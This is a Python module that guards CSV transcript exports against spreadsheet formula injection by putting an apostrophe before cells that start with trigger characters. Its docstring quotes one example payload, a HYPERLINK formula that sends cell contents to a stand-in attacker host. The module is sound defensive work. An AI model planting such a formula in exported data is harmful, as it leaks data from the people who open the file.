"""CSV cells that a spreadsheet shows as text, never runs.

Excel, LibreOffice and Google Sheets treat a cell that starts with `=`, `+`, `-`,
`@` (or a tab or carriage return before one of them) as a formula: a participant
who posts `=HYPERLINK("https://evil.example/?"&A1, "click")` would have it run on
the host's machine when the host opens a transcript export. Such a text cell gets
a leading apostrophe, which spreadsheets hide and which keeps the cell text.
Numbers the export writes itself (ints) stay numbers.
"""

import csv
import io
from collections.abc import Iterable
from typing import Any

# The ASCII trigger characters and their full-width forms (some spreadsheets fold them).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")


def safe_cell(value: Any) -> Any:
    """`value` as it may go into a CSV cell: text that could start a formula is
    prefixed with an apostrophe; everything else is unchanged."""
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(rows: Iterable[Iterable[Any]]) -> str:
    """CSV (RFC 4180 quoting) of `rows`, every cell passed through safe_cell."""
    buffer = io.StringIO()
    writer = csv.writer(buffer)
    for row in rows:
        writer.writerow([safe_cell(cell) for cell in row])
    return buffer.getvalue()
